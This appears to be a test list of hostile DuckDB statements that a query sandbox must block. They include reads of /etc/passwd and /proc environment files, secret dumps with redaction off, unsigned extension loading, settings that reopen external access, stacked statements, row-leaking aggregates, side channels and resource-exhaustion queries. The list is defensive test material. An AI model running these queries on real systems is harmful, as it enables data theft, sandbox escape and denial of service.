-- Statements that no wall may let do what they try: one a line, under the kind of what they try.
-- {canary}: a file with a secret; {out}: an empty folder; {port}: a listener on this machine.

-- kind: reads a file
SELECT * FROM read_text('{canary}')
SELECT content FROM read_text(['{canary}', '/etc/passwd'])
SELECT * FROM read_blob('{canary}')
SELECT * FROM read_csv('{canary}')
SELECT * FROM read_csv_auto('{canary}')
SELECT * FROM read_csv('{canary}', header = false, columns = {'a': 'VARCHAR'})
SELECT * FROM read_csv('{canary}', all_varchar = true, ignore_errors = true, store_rejects = true)
SELECT * FROM sniff_csv('{canary}')
SELECT * FROM read_json('{canary}')
SELECT * FROM read_json_auto('{canary}')
SELECT * FROM read_json_objects('{canary}')
SELECT * FROM read_ndjson('{canary}')
SELECT * FROM read_ndjson_auto('{canary}')
SELECT * FROM read_ndjson_objects('{canary}')
SELECT * FROM read_json('{canary}', format = 'unstructured', columns = {'a': 'VARCHAR'})
SELECT * FROM read_parquet('{canary}')
SELECT * FROM parquet_scan('{canary}')
SELECT * FROM parquet_metadata('{canary}')
SELECT * FROM parquet_schema('{canary}')
SELECT * FROM parquet_file_metadata('{canary}')
SELECT * FROM parquet_kv_metadata('{canary}')
SELECT * FROM '{canary}'
SELECT * FROM "{canary}"
FROM '{canary}'
TABLE '{canary}'
SELECT * FROM 'file://{canary}'
SELECT * FROM glob('{out}/../*')
SELECT * FROM glob('/etc/*')
SELECT * FROM glob('/proc/*/environ')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_text('/proc/self/environ')
SELECT * FROM read_blob('/proc/self/maps')
SELECT * FROM read_text('/proc/self/cmdline')
SELECT * FROM read_text('/proc/1/root/etc/passwd')
SELECT * FROM read_text('/proc/self/fd/3')
SELECT * FROM read_text('package.json')
SELECT * FROM read_csv('/etc/passwd', sep = ':', header = false)
SELECT count(*) AS n FROM flights, read_text('{canary}')
SELECT content, count(*) AS n FROM read_text('{canary}') GROUP BY content
SELECT x.content, count(*) AS n FROM flights f JOIN read_text('{canary}') x ON f.origin = x.content GROUP BY 1
SELECT count(*) AS n FROM flights WHERE origin IN (SELECT content FROM read_text('{canary}'))
SELECT count(*) AS n FROM flights WHERE EXISTS (FROM read_text('{canary}'))
WITH x AS (SELECT * FROM read_text('{canary}')) SELECT content, count(*) AS n FROM x GROUP BY content
SELECT (SELECT content FROM read_text('{canary}')) AS x, count(*) AS n FROM flights
SELECT max(length(content)) AS x, count(*) AS n FROM read_text('{canary}')
COPY flights FROM '{canary}'
CREATE TABLE stolen AS SELECT * FROM read_text('{canary}')
CREATE VIEW stolen AS SELECT * FROM read_text('{canary}')
INSERT INTO flights SELECT NULL, NULL, 1, content, '' FROM read_text('{canary}')
IMPORT DATABASE '{out}'
ATTACH '{canary}' AS stolen (READ_ONLY)
SUMMARIZE SELECT * FROM read_text('{canary}')
DESCRIBE SELECT * FROM read_csv('{canary}')
EXPLAIN ANALYZE SELECT * FROM read_text('{canary}')
SELECT * FROM query('SELECT * FROM read_text(''{canary}'')')
SELECT * FROM query_table('{canary}')

-- kind: writes a file
COPY flights TO '{out}/a.csv'
COPY flights TO '{out}/a.parquet' (FORMAT parquet)
COPY flights TO '{out}/a.json' (FORMAT json)
COPY (SELECT origin FROM flights) TO '{out}/b.csv' (HEADER false)
COPY (SELECT 1) TO '{out}/c' (FORMAT csv, PER_THREAD_OUTPUT)
COPY (SELECT origin, 1 AS x FROM flights) TO '{out}/d' (FORMAT csv, PARTITION_BY (origin))
COPY (SELECT origin, 1 AS x FROM flights) TO '{out}/e' (FORMAT parquet, PARTITION_BY (origin), OVERWRITE)
COPY flights TO '{out}/f.csv.gz' (COMPRESSION gzip)
COPY flights TO '{canary}'
COPY flights TO '/dev/shm/strongroom-hostile.csv'
COPY flights TO '/tmp/strongroom-hostile.csv'
COPY flights TO 'strongroom-hostile.csv'
COPY flights TO '/dev/stdout'
COPY flights TO '/proc/self/fd/1'
COPY flights TO '/proc/self/fd/3'
COPY flights TO '/dev/stderr' (FORMAT csv)
COPY DATABASE memory TO other
EXPORT DATABASE '{out}/export'
EXPORT DATABASE '{out}/export2' (FORMAT parquet)
ATTACH '{out}/new.db' AS other
ATTACH '{out}/new2.db' AS other (TYPE duckdb)
ATTACH IF NOT EXISTS '{out}/new3.db' AS other
ATTACH '{out}/new4.db' AS other; CREATE TABLE other.t AS SELECT * FROM flights
ATTACH 'strongroom-hostile.db'
SET temp_directory = '{out}/spill'
SET temp_directory = '{out}/spill'; SET memory_limit = '20MB'; CREATE TABLE big AS SELECT range, repeat('x', 90) AS t FROM range(2000000); SELECT * FROM big ORDER BY t, range DESC LIMIT 1
SET log_query_path = '{out}/queries.log'; SELECT * FROM flights
SET profiling_output = '{out}/profile.json'; SET enable_profiling = 'json'; SELECT * FROM flights
PRAGMA enable_profiling = 'json'
PRAGMA profiling_output = '{out}/profile2.json'
PRAGMA log_query_path = '{out}/queries2.log'
CALL enable_logging(storage_path = '{out}/log')
CALL enable_logging('QueryLog', storage = 'file', storage_config = {'path': '{out}/log2'})
CALL enable_profiling(format = 'json', save_location = '{out}/profile3.json')
SET secret_directory = '{out}/secrets'; CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')
SET extension_directory = '{out}/extensions'
SET home_directory = '{out}'
CHECKPOINT
FORCE CHECKPOINT
VACUUM
VACUUM ANALYZE flights

-- kind: reaches for the network or an extension
INSTALL httpfs
INSTALL spatial
INSTALL httpfs FROM community
INSTALL h3 FROM community
INSTALL httpfs FROM 'http://127.0.0.1:{port}'
SET home_directory = '{out}'; INSTALL httpfs FROM 'http://127.0.0.1:{port}'
SET extension_directory = '{out}'; INSTALL spatial FROM 'http://127.0.0.1:{port}/x'
FORCE INSTALL httpfs
SET extension_directory = '{out}'; FORCE INSTALL httpfs FROM 'http://127.0.0.1:{port}'
INSTALL '{out}/evil.duckdb_extension'
LOAD httpfs
LOAD json
LOAD parquet
LOAD '{out}/evil.duckdb_extension'
LOAD '{canary}'
UPDATE EXTENSIONS
UPDATE EXTENSIONS (httpfs)
SET custom_extension_repository = 'http://127.0.0.1:{port}'
SET autoinstall_extension_repository = 'http://127.0.0.1:{port}'
SET extension_directory = '{out}'; SET autoinstall_known_extensions = true; SET autoload_known_extensions = true; SET autoinstall_extension_repository = 'http://127.0.0.1:{port}'; SELECT * FROM 'https://127.0.0.1:{port}/x.parquet'
SELECT * FROM 'http://127.0.0.1:{port}/x.csv'
SELECT * FROM 'https://127.0.0.1:{port}/x.parquet'
SELECT * FROM 's3://bucket/key.parquet'
SELECT * FROM 'gcs://bucket/key.csv'
SELECT * FROM 'hf://datasets/a/b.csv'
SELECT * FROM 'azure://container/x.csv'
SELECT * FROM read_csv('http://127.0.0.1:{port}/x.csv')
SELECT * FROM read_text('http://127.0.0.1:{port}/x')
SELECT * FROM read_parquet('s3://bucket/*.parquet')
COPY flights TO 'http://127.0.0.1:{port}/x'
COPY flights TO 's3://bucket/x.csv'
ATTACH 'http://127.0.0.1:{port}/x.db' AS other
ATTACH 'host=127.0.0.1 port={port} dbname=x' AS pg (TYPE postgres)
ATTACH 'host=127.0.0.1 port={port}' AS my (TYPE mysql)
ATTACH '{out}/x.sqlite' AS lite (TYPE sqlite)
ATTACH 'ducklake:{out}/meta.ducklake' AS lake
ATTACH 'md:' AS motherduck
SELECT * FROM postgres_scan('host=127.0.0.1 port={port}', 'public', 't')
SELECT * FROM sqlite_scan('{out}/x.sqlite', 't')
SELECT * FROM mysql_query('x', 'SELECT 1')
SELECT * FROM iceberg_scan('{out}')
SELECT * FROM delta_scan('{out}')
SELECT * FROM st_read('{canary}')
SELECT * FROM read_xlsx('{canary}')
SELECT http_get('http://127.0.0.1:{port}/') AS x, count(*) AS n FROM flights
SELECT * FROM duckdb_extensions()
CALL start_ui()
SELECT * FROM pragma_platform()

-- kind: changes settings
SET enable_external_access = true
SET GLOBAL enable_external_access = true
SET SESSION enable_external_access = true
SET lock_configuration = false
SET allow_unsigned_extensions = true
SET allow_community_extensions = true
SET autoinstall_known_extensions = true
SET autoload_known_extensions = true
SET disabled_filesystems = ''
SET allowed_directories = ['/']
SET allowed_paths = ['{canary}']
SET memory_limit = '100GB'
SET max_memory = '100GB'
SET threads = 64
SET worker_threads = 64
SET external_threads = 1
SET temp_directory = '/tmp'
SET max_temp_directory_size = '100GB'
SET preserve_insertion_order = false
SET TimeZone = 'America/New_York'
SET Calendar = 'japanese'
SET default_null_order = 'nulls_first'
SET default_order = 'DESC'
SET ieee_floating_point_ops = false
SET integer_division = true
SET old_implicit_casting = true
SET enable_progress_bar = true
SET enable_object_cache = true
SET search_path = 'other'
SET schema = 'other'
SET errors_as_json = true
SET max_expression_depth = 100000
SET perfect_ht_threshold = 64
SET immediate_transaction_mode = true
SET http_proxy = '127.0.0.1:{port}'
SET username = 'x'
SET storage_compatibility_version = 'latest'
RESET enable_external_access
RESET lock_configuration
RESET threads
RESET GLOBAL memory_limit
PRAGMA enable_external_access = true
PRAGMA threads = 64
PRAGMA memory_limit = '100GB'
PRAGMA temp_directory = '{out}'
PRAGMA disable_optimizer
PRAGMA enable_verification
PRAGMA force_checkpoint
PRAGMA default_collation = NOCASE
PRAGMA add_parquet_key('key', '0123456789112345')
USE other
SET VARIABLE x = 1
BEGIN; SET threads = 9; COMMIT

-- kind: looks for secrets and surroundings
SELECT * FROM duckdb_secrets()
SELECT * FROM duckdb_secrets(redact = false)
CREATE SECRET s (TYPE http, BEARER_TOKEN 'x')
CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')
CREATE SECRET s (TYPE s3, PROVIDER credential_chain)
DROP SECRET s
SELECT * FROM which_secret('s3://bucket', 's3')
SELECT getenv('PATH') AS x, count(*) AS n FROM flights
SELECT getvariable('x') AS x, count(*) AS n FROM flights
SELECT current_setting('temp_directory') AS x, count(*) AS n FROM flights
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_tables()
SELECT * FROM duckdb_columns()
SELECT * FROM duckdb_databases()
SELECT * FROM duckdb_temporary_files()
SELECT * FROM duckdb_memory()
SELECT * FROM duckdb_logs
SELECT * FROM duckdb_approx_database_count()
SELECT * FROM information_schema.tables
SELECT * FROM pg_catalog.pg_settings
SELECT * FROM sqlite_master
SELECT * FROM pragma_database_list
SELECT * FROM pragma_storage_info('flights')
SELECT * FROM pragma_table_info('flights')
SELECT version() AS x, count(*) AS n FROM flights
SELECT current_user AS x, count(*) AS n FROM flights
SELECT current_database() AS x, current_schemas(true) AS y, count(*) AS n FROM flights
SELECT txid_current() AS x, count(*) AS n FROM flights
SELECT pg_backend_pid() AS x, count(*) AS n FROM flights
SELECT now() AS x, count(*) AS n FROM flights
SHOW TABLES
SHOW ALL TABLES
SHOW DATABASES
SHOW flights

-- kind: writes SQL at run time
SELECT * FROM query('SELECT * FROM flights')
SELECT * FROM query_table('flights')
SELECT count(*) AS n FROM query('FROM flights')
SELECT count(*) AS n FROM query_table(['flights'])
PREPARE p AS SELECT * FROM flights
PREPARE p AS COPY flights TO '{out}/p.csv'; EXECUTE p
EXECUTE p
DEALLOCATE p
CREATE MACRO leak(x) AS (SELECT max(origin) FROM flights)
CREATE TEMP MACRO leak() AS TABLE SELECT * FROM flights
CREATE FUNCTION leak(x) AS x
CREATE OR REPLACE MACRO count_star() AS 1000000
CREATE OR REPLACE MACRO sum(x) AS list(x)
CREATE VIEW flights2 AS SELECT * FROM flights
CREATE OR REPLACE VIEW airports AS SELECT * FROM flights
CREATE TABLE copy AS SELECT * FROM flights
CREATE TEMP TABLE copy AS FROM flights
CREATE SCHEMA other
CREATE SEQUENCE s
CREATE TYPE mood AS ENUM (SELECT origin FROM flights)
CREATE INDEX i ON flights (origin)
DROP TABLE flights
ALTER TABLE flights ADD COLUMN x INTEGER
ALTER TABLE flights RENAME TO airports
COMMENT ON TABLE flights IS 'x'
INSERT INTO flights SELECT * FROM flights
UPDATE flights SET delay = 1
DELETE FROM flights
TRUNCATE flights
MERGE INTO flights USING airports ON (origin = iata) WHEN MATCHED THEN DELETE
SELECT json_execute_serialized_sql(json_serialize_sql('SELECT * FROM flights')) AS x, count(*) AS n FROM flights
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM flights'))
PRAGMA json_execute_serialized_sql('{"error":true}')
SELECT json_serialize_sql('SELECT 1') AS x, count(*) AS n FROM flights
SELECT json_deserialize_sql('{}') AS x, count(*) AS n FROM flights
PIVOT flights ON origin USING sum(delay)
UNPIVOT flights ON delay INTO NAME x VALUE y
SELECT * FROM flights PIVOT (sum(delay) FOR origin IN ('A', 'B'))
CALL query('SELECT 1')

-- kind: says more than one statement
SELECT count(*) AS n FROM flights; SELECT * FROM flights
SELECT count(*) AS n FROM flights; COPY flights TO '{out}/m.csv'
SELECT count(*) AS n FROM flights;; DROP TABLE flights
SELECT count(*) AS n FROM flights; SET threads = 8
SELECT count(*) AS n FROM flights; ATTACH '{out}/m.db' AS m
; COPY flights TO '{out}/m2.csv'
SELECT count(*) AS n FROM flights /* ; */; EXPORT DATABASE '{out}/m3'
BEGIN; SELECT count(*) AS n FROM flights; COMMIT
BEGIN TRANSACTION
COMMIT
ROLLBACK
SELECT count(*) AS n FROM flights; SELECT count(*) AS n FROM flights
EXPLAIN SELECT count(*) AS n FROM flights
EXPLAIN ANALYZE SELECT count(*) AS n FROM flights
SELECT count(*) AS n FROM flights UNION ALL SELECT count(*) AS n FROM flights
(SELECT count(*) AS n FROM flights) EXCEPT (SELECT 1)
VALUES (1)
SELECT count(*) AS n FROM flights WHERE delay = $1
SELECT count(*) AS n FROM flights WHERE delay = ?

-- kind: shows rows as aggregates
SELECT * FROM flights
SELECT origin, delay FROM flights
FROM flights SELECT origin
TABLE flights
SUMMARIZE flights
SELECT DISTINCT origin, delay FROM flights
SELECT origin, 1000 AS n FROM flights
SELECT origin, count(*) + 1000 AS n FROM flights GROUP BY origin
SELECT origin, count(delay) AS n FROM flights GROUP BY origin
SELECT origin, sum(1000) AS n FROM flights GROUP BY origin
SELECT origin, count(*) FILTER (WHERE true) AS n FROM flights GROUP BY origin
SELECT origin, count(*) OVER () AS n FROM flights
SELECT origin, n FROM (SELECT origin, count(*) OVER () AS n FROM flights) AS x
SELECT list(delay) AS x, count(*) AS n FROM flights
SELECT array_agg(delay) AS x, count(*) AS n FROM flights
SELECT list(delay ORDER BY date) AS x, count(*) AS n FROM flights
SELECT string_agg(origin, ',') AS x, count(*) AS n FROM flights
SELECT group_concat(origin) AS x, count(*) AS n FROM flights
SELECT listagg(origin) AS x, count(*) AS n FROM flights
SELECT any_value(origin) AS x, count(*) AS n FROM flights
SELECT first(origin) AS x, count(*) AS n FROM flights
SELECT last(origin) AS x, count(*) AS n FROM flights
SELECT arbitrary(origin) AS x, count(*) AS n FROM flights
SELECT min(origin) AS x, count(*) AS n FROM flights
SELECT max(origin) AS x, count(*) AS n FROM flights
SELECT max(date) AS x, count(*) AS n FROM flights
SELECT min(CAST(origin AS VARCHAR)) AS x, count(*) AS n FROM flights
SELECT max(upper(origin)) AS x, count(*) AS n FROM flights
SELECT min(delay, 5) AS x, count(*) AS n FROM flights
SELECT max(origin, 3) AS x, count(*) AS n FROM flights
SELECT arg_max(origin, delay) AS x, count(*) AS n FROM flights
SELECT arg_min(origin, delay) AS x, count(*) AS n FROM flights
SELECT max_by(origin, delay, 5) AS x, count(*) AS n FROM flights
SELECT min_by(origin, delay) AS x, count(*) AS n FROM flights
SELECT mode(origin) AS x, count(*) AS n FROM flights
SELECT histogram(origin) AS x, count(*) AS n FROM flights
SELECT histogram_exact(delay, [1, 2]) AS x, count(*) AS n FROM flights
SELECT approx_top_k(origin, 3) AS x, count(*) AS n FROM flights
SELECT quantile_disc(delay, 0.5) AS x, count(*) AS n FROM flights
SELECT quantile_cont(delay, 0.5) AS x, count(*) AS n FROM flights
SELECT median(delay) AS x, count(*) AS n FROM flights
SELECT mad(delay) AS x, count(*) AS n FROM flights
SELECT approx_quantile(delay, 0.5) AS x, count(*) AS n FROM flights
SELECT reservoir_quantile(delay, 0.5) AS x, count(*) AS n FROM flights
SELECT bit_xor(delay) AS x, count(*) AS n FROM flights
SELECT bit_or(delay) AS x, count(*) AS n FROM flights
SELECT bit_and(delay) AS x, count(*) AS n FROM flights
SELECT bitstring_agg(delay) AS x, count(*) AS n FROM flights
SELECT bool_or(origin = 'A') AS x, count(*) AS n FROM flights
SELECT product(delay) AS x, count(*) AS n FROM flights
SELECT entropy(origin) AS x, count(*) AS n FROM flights
SELECT kurtosis(delay) AS x, count(*) AS n FROM flights
SELECT skewness(delay) AS x, count(*) AS n FROM flights
SELECT corr(delay, distance) AS x, count(*) AS n FROM flights
SELECT regr_slope(delay, distance) AS x, count(*) AS n FROM flights
SELECT fsum(delay) AS x, count(*) AS n FROM flights
SELECT sum(delay ORDER BY date) AS x, count(*) AS n FROM flights
SELECT row_number() OVER () AS x, count(*) AS n FROM flights
SELECT lag(origin) OVER (ORDER BY date) AS x, count(*) AS n FROM flights
SELECT origin, count(*) AS n FROM flights GROUP BY origin QUALIFY row_number() OVER () = 1
SELECT origin, count(*) AS n FROM flights USING SAMPLE 1 GROUP BY origin
SELECT origin, count(*) AS n FROM flights TABLESAMPLE reservoir(1) GROUP BY origin
SELECT {'o': origin} AS x, count(*) AS n FROM flights GROUP BY 1
SELECT [origin] AS x, count(*) AS n FROM flights GROUP BY 1
SELECT row(origin, delay) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT flights AS x, count(*) AS n FROM flights GROUP BY 1
SELECT struct_pack(a := origin) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT to_json(flights) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT origin || destination AS x, count(*) AS n FROM flights GROUP BY 1
SELECT concat(origin, delay) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT rowid AS x, count(*) AS n FROM flights GROUP BY 1
SELECT COLUMNS(*), count(*) AS n FROM flights GROUP BY ALL
SELECT *, count(*) AS n FROM flights GROUP BY ALL
SELECT (SELECT max(origin) FROM flights) AS x, count(*) AS n FROM flights
SELECT (SELECT origin FROM flights LIMIT 1) AS x, count(*) AS n FROM flights
SELECT count(*) AS n, x FROM flights, LATERAL (SELECT origin AS x) AS y GROUP BY x
SELECT f.origin, count(*) AS n FROM flights f JOIN airports a ON true GROUP BY 1
SELECT f.origin, count(*) AS n FROM flights f CROSS JOIN airports a GROUP BY 1
SELECT f.origin, count(*) AS n FROM flights f, airports a GROUP BY 1
SELECT f.origin, count(*) AS n FROM flights f JOIN airports a ON f.origin <> a.iata GROUP BY 1
SELECT f.origin, count(*) AS n FROM flights f JOIN airports a ON f.origin = a.iata OR true GROUP BY 1
SELECT f.origin, count(*) AS n FROM flights f JOIN (SELECT iata, f.origin AS o FROM airports) a ON f.origin = a.o GROUP BY 1
SELECT f.origin, count(*) AS n FROM flights f LEFT JOIN (SELECT iata, f.origin AS o FROM airports) a ON f.origin = a.o GROUP BY 1
SELECT f.origin, count(*) AS n FROM flights f POSITIONAL JOIN airports a GROUP BY 1
SELECT f.origin, count(*) AS n FROM flights f NATURAL JOIN airports a GROUP BY 1
SELECT f.origin, count(*) AS n FROM flights f FULL JOIN airports a ON f.origin = a.iata GROUP BY 1
SELECT f.origin, count(*) AS n FROM flights f RIGHT JOIN airports a ON f.origin = a.iata GROUP BY 1
SELECT f.origin, count(*) AS n FROM flights f ASOF JOIN airports a ON f.delay >= a.latitude GROUP BY 1
SELECT origin, count(*) AS n FROM (SELECT * FROM flights UNION ALL SELECT * FROM flights) AS x GROUP BY origin
SELECT origin, count(*) AS n FROM (SELECT *, unnest(range(100)) AS i FROM flights) AS x GROUP BY origin
SELECT origin, count(*) AS n FROM (SELECT * FROM flights ORDER BY delay LIMIT 1) AS x GROUP BY origin
SELECT origin, count(*) AS n FROM flights GROUP BY ROLLUP (origin)
SELECT origin, count(*) AS n FROM flights GROUP BY CUBE (origin, destination)
SELECT origin, count(*) AS n FROM flights GROUP BY GROUPING SETS ((origin), (delay), ())
WITH RECURSIVE t AS (SELECT origin FROM flights UNION ALL SELECT origin FROM t) SELECT origin, count(*) AS n FROM t GROUP BY origin
SELECT count(*) AS n FROM flights WHERE (SELECT count(*) FROM airports WHERE iata = 'A') > 0
SELECT count(*) AS n FROM flights WHERE delay > ANY (SELECT latitude FROM airports)
SELECT count(*) AS n FROM flights WHERE delay > ALL (SELECT latitude FROM airports)
SELECT sum(CASE WHEN EXISTS (SELECT 1 FROM airports a WHERE a.iata = origin) THEN 1 ELSE 0 END) AS x, count(*) AS n FROM flights
SELECT count(*) AS n FROM flights f WHERE EXISTS (SELECT 1 FROM airports a)
SELECT count(*) AS n FROM flights f WHERE EXISTS (SELECT 1 FROM airports f WHERE f.iata = f.state)
SELECT count(*) AS n FROM flights f WHERE f.origin IN (SELECT a.iata FROM airports a WHERE a.state = f.destination)
SELECT count(*) AS n FROM flights WHERE (origin, destination) IN (SELECT iata, state FROM airports)

-- kind: fails or waits for some rows
SELECT CASE WHEN origin = 'Alice' THEN error('x') ELSE 1 END AS x, count(*) AS n FROM flights GROUP BY 1
SELECT error(origin) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT count(*) AS n FROM flights WHERE origin = 5
SELECT count(*) AS n FROM flights WHERE delay = origin
SELECT sum(CASE WHEN origin = 5 THEN 1 ELSE 0 END) AS x, count(*) AS n FROM flights
SELECT count(*) AS n FROM flights WHERE delay = 'abc'
SELECT count(*) AS n FROM flights WHERE date > 'not a date'
SELECT count(*) AS n FROM flights WHERE date > DATE '2001-02-30'
SELECT sum(delay) * sum(delay) AS x, count(*) AS n FROM flights
SELECT sum(delay) + sum(delay) AS x, count(*) AS n FROM flights
SELECT 100 * sum(delay) AS x, count(*) AS n FROM flights
SELECT abs(sum(delay)) AS x, count(*) AS n FROM flights
SELECT sum(delay) // count(*) AS x, count(*) AS n FROM flights
SELECT sum(delay) % count(*) AS x, count(*) AS n FROM flights
SELECT delay + 1 AS x, count(*) AS n FROM flights GROUP BY delay
SELECT -delay AS x, count(*) AS n FROM flights GROUP BY delay
SELECT abs(delay) AS x, count(*) AS n FROM flights GROUP BY delay
SELECT sum(x) AS y, count(*) AS n FROM (SELECT sum(delay) AS x FROM flights GROUP BY origin) AS t
SELECT avg(x) AS y, count(*) AS n FROM (SELECT sum(delay) AS x FROM flights GROUP BY origin) AS t
SELECT sum(CAST(delay AS HUGEINT)) AS x, count(*) AS n FROM flights
SELECT sum(CAST(delay AS DECIMAL(38, 10))) AS x, count(*) AS n FROM flights
SELECT sum(CASE WHEN origin = 'Alice' THEN 170141183460469231731687303715884105727 ELSE 0 END) AS x, count(*) AS n FROM flights
SELECT sum(delay * 9223372036854775807) AS x, count(*) AS n FROM flights
SELECT sqrt(delay) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT ln(delay) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT pow(delay, 999) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT exp(delay) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT factorial(delay) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT delay << 70 AS x, count(*) AS n FROM flights GROUP BY 1
SELECT delay ** 99 AS x, count(*) AS n FROM flights GROUP BY 1
SELECT chr(delay) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT make_date(delay, 1, 1) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT strptime(origin, '%Y') AS x, count(*) AS n FROM flights GROUP BY 1
SELECT date_trunc(origin, date) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT date_part(origin, date) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT date_diff(origin, date, date) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT date_part('nonsense', date) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT CAST(origin AS STRUCT(a INTEGER)) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT CAST(origin AS UUID) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT CAST(origin AS BLOB) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT CAST(origin AS BIT) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT CAST(origin AS INET) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT CAST(date AS TIME) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT count(*) AS n FROM flights WHERE origin LIKE destination
SELECT count(*) AS n FROM flights WHERE origin LIKE '%a%_%b%_%c%_%d%_%e%'
SELECT count(*) AS n FROM flights WHERE origin LIKE '%_%_%_%_%_%_%_%_%_%_%x'
SELECT count(*) AS n FROM flights WHERE origin LIKE 'a!' ESCAPE '!'
SELECT count(*) AS n FROM flights WHERE origin ILIKE '%a%'
SELECT count(*) AS n FROM flights WHERE origin SIMILAR TO '(a|aa)+'
SELECT count(*) AS n FROM flights WHERE origin ~ '(a+)+b'
SELECT count(*) AS n FROM flights WHERE origin GLOB '*a*'
SELECT count(*) AS n FROM flights WHERE regexp_matches(origin, destination)
SELECT count(*) AS n FROM flights WHERE contains(origin, destination)
SELECT count(*) AS n FROM flights WHERE levenshtein(origin, destination) > 3
SELECT count(*) AS n FROM flights WHERE length(repeat(origin, CAST(delay AS BIGINT))) > 0
SELECT sum(list_sum(range(delay))) AS x, count(*) AS n FROM flights
SELECT sum(len(range(1000000 * (origin = 'Alice')::INTEGER))) AS x, count(*) AS n FROM flights
SELECT lpad(origin, CAST(delay AS INTEGER), 'x') AS x, count(*) AS n FROM flights GROUP BY 1
SELECT sleep_ms(1000) AS x, count(*) AS n FROM flights
SELECT nextval('s') AS x, count(*) AS n FROM flights
SELECT random() AS x, count(*) AS n FROM flights GROUP BY 1
SELECT uuid() AS x, count(*) AS n FROM flights GROUP BY 1
SELECT sum(CASE WHEN origin = 'Alice' THEN (SELECT count(*) FROM range(1000000)) ELSE 0 END) AS x, count(*) AS n FROM flights
SELECT sum(CASE WHEN origin = 'Alice' THEN length(repeat(destination, 1000)) ELSE 0 END) AS x, count(*) AS n FROM flights
SELECT sum(CASE WHEN origin = 'Alice' THEN length(sha256(destination)) ELSE 0 END) AS x, count(*) AS n FROM flights
SELECT sum(CASE WHEN delay = 5 THEN list_sum(list_sort(range(100000))) ELSE 0 END) AS x, count(*) AS n FROM flights
SELECT sum(CASE WHEN origin = 'Alice' THEN length(upper(lower(upper(lower(upper(lower(upper(lower(upper(lower(upper(lower(upper(lower(upper(lower(destination))))))))))))))))) ELSE 0 END) AS x, count(*) AS n FROM flights
SELECT count(*) AS n FROM flights WHERE origin <> 'Alice' OR (SELECT count(*) FROM flights a, flights b) > 0
SELECT count(*) AS n FROM flights WHERE CASE WHEN origin = 'Alice' THEN regexp_full_match(destination, '(a+)+') ELSE true END
SELECT count(*) AS n FROM flights f, LATERAL (SELECT * FROM range(CASE WHEN f.origin = 'Alice' THEN 100000 ELSE 1 END)) AS r

-- kind: uses up memory or time
SELECT count(*) AS n FROM range(100000000000)
SELECT count(*) AS n FROM range(1000000) a, range(1000000) b
SELECT sum(a.range * b.range) AS x, count(*) AS n FROM range(100000000) a, range(1000) b
SELECT list(range) AS x, count(*) AS n FROM range(1000000000)
SELECT string_agg(repeat('x', 1000), '') AS x, count(*) AS n FROM range(100000000)
SELECT repeat('x', 4000000000) AS x, count(*) AS n FROM flights
SELECT repeat(repeat(repeat('x', 10000), 10000), 10000) AS x, count(*) AS n FROM flights
SELECT count(DISTINCT hash(range)) AS x, count(*) AS n FROM range(1000000000)
SELECT range AS x, count(*) AS n FROM range(1000000000) GROUP BY range
SELECT * FROM range(1000000000) ORDER BY hash(range)
SELECT * FROM generate_series(1, 100000000000)
SELECT * FROM repeat_row(1, 'x', num_rows = 100000000000)
WITH RECURSIVE t(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM t) SELECT count(*) AS n FROM t
WITH RECURSIVE t(x) AS (SELECT 'x' UNION ALL SELECT x || x FROM t) SELECT count(*) AS n FROM t
CREATE TABLE bomb AS SELECT range, repeat('x', 1000) AS t FROM range(1000000000)
SELECT list_sort(range(1000000000)) AS x, count(*) AS n FROM flights
SELECT list_reduce(range(100000000), lambda a, b : a + b) AS x, count(*) AS n FROM flights
SELECT list_transform(range(100000000), lambda a : repeat('x', a)) AS x, count(*) AS n FROM flights
SELECT unnest(range(100000000000)) AS x, count(*) AS n FROM flights GROUP BY 1
SELECT regexp_replace(repeat('a', 100000000), '(a*)*b', '', 'g') AS x, count(*) AS n FROM flights
SELECT count(*) AS n FROM flights a JOIN flights b USING (origin) JOIN flights c USING (origin) JOIN flights d USING (origin) JOIN flights e USING (origin) JOIN flights f USING (origin) JOIN flights g USING (origin) JOIN flights h USING (origin) JOIN flights i USING (origin) JOIN flights j USING (origin) JOIN flights k USING (origin) JOIN flights l USING (origin) JOIN flights m USING (origin) JOIN flights n USING (origin) JOIN flights o USING (origin) JOIN flights p USING (origin) JOIN flights q USING (origin)
WITH a AS (SELECT * FROM flights), b AS (SELECT x.* FROM a x JOIN a y USING (origin)), c AS (SELECT x.* FROM b x JOIN b y USING (origin)), d AS (SELECT x.* FROM c x JOIN c y USING (origin)), e AS (SELECT x.* FROM d x JOIN d y USING (origin)), f AS (SELECT x.* FROM e x JOIN e y USING (origin)) SELECT count(*) AS n FROM f
